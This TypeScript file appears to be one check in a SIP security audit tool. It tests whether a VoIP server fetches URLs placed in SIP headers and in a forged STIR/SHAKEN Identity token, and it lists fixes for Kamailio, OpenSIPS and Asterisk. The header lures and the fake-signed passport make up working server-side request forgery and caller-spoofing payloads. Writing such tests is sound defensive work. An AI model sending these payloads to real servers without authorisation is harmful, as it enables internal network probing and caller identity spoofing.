import { attack } from '../attack.ts'
import { callThrough } from '../call.ts'
import { token } from '../saying.ts'

/** Fields whose URLs a server may be tempted to fetch (RFC 3261 §20.4, §20.9, §20.18; RFC 6442; RFC 8224 §4). */
function luring(http: string, https: string): readonly string[] {
  return [
    `Alert-Info: <${http}/alert>`,
    `Call-Info: <${http}/icon>;purpose=icon, <${http}/card>;purpose=card`,
    `Error-Info: <${http}/error>`,
    `Geolocation: <${http}/place>`,
    'Geolocation-Routing: yes',
    `Identity: ${passport(`${https}/chain.pem`)};info=<${https}/chain.pem>;alg=ES256;ppt=shaken`,
  ]
}

/** The token of a caller whose certificate stands at that URL; its signature is nobody's. */
function passport(x5u: string): string {
  const part = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url')
  const header = part({ alg: 'ES256', ppt: 'shaken', typ: 'passport', x5u })
  const iat = Math.floor(Date.now() / 1_000)
  const claims = part({
    attest: 'A',
    dest: { tn: ['12155550131'] },
    iat,
    orig: { tn: '12155550121' },
    origid: token(),
  })
  return `${header}.${claims}.${'A'.repeat(86)}`
}

/** URLs in an INVITE that lead to a private address: of ours, so that whoever fetches is seen. */
export const serverSideFetch = attack({
  id: 'server-side-fetch',
  entry: 'B06',
  title: 'has the server fetch from a private address that a request names',
  threats: ['known-internet-attacks', 'untrusted-networks'],
  clause: '§3.3, identity; §2, attacks known from the Internet',
  references: ['RFC 8224 §6.2', 'RFC 8226 §11', 'RFC 3261 §20.9'],
  severity: 'high',
  isIntrusive: false,
  maxMessages: 60,
  needs: ['two-accounts'],
  expected: 'Nothing is fetched from an address of a private range, whatever names it.',
  mending: {
    aspis:
      'On by default: certificates come from public addresses alone, unless `insecure` says `private-certificates`; nothing else is fetched.',
    kamailio:
      'Call `secsipid_check_identity()` behind a fetching proxy that refuses private ranges; put no URL of a message into `http_client_query()`.',
    opensips:
      'Fetch certificates for `stir_shaken_verify()` by a proxy that refuses private ranges; put no URL of a message into `rest_get()`.',
    asterisk:
      'In `stir_shaken.conf` name the private ranges in `x5u_deny`; put no URL of a message into `CURL()`.',
  },
  async run(trial) {
    const trap = await trial.trap('trap')
    const at = `${trap.at.ip}:${trap.at.port}`
    const [alice, bob] = [await trial.registered(0), await trial.registered(1)]
    const honest = await callThrough(alice, bob)
    if ('problem' in honest) return trial.inconclusive(honest.problem)
    const stranger = await trial.stranger()
    const lines = luring(`http://${at}`, `https://${at}`)
    const asked = { method: 'INVITE', uri: bob.aor, lines }
    const bait = Promise.all([
      alice.askProved({ ...asked, callId: token() }, 4 * trial.silenceMs),
      stranger.ask({ ...asked, from: 'sip:+12155550121@audit.invalid;user=phone' }, 4 * trial.silenceMs),
      stranger.ask(
        { method: 'REGISTER', uri: `sip:${trial.target.domain}`, lines, contact: `http://${at}/contact` },
        4 * trial.silenceMs,
      ),
    ])
    const answering = (async () => {
      for (
        let call = await bob.request('INVITE', 4 * trial.silenceMs);
        call !== undefined;
        call = await bob.request('INVITE', 4 * trial.silenceMs)
      )
        bob.respond(call, 486, { toTag: token(), contact: false })
    })()
    await Promise.all([bait, answering])
    const paths = trap.requests.map(({ requestUri }) => requestUri)
    const counts = { requests: 3, fetches: trap.connections }
    if (trap.connections > 0)
      return trial.succeeded(
        `the target connected ${trap.connections} times to a private address that requests named${paths.length > 0 ? `, for ${paths.join(', ')}` : ''}`,
        counts,
      )
    return trial.resisted(
      `nothing was fetched from the private address that 3 requests named in ${lines.length} fields`,
      counts,
    )
  },
})
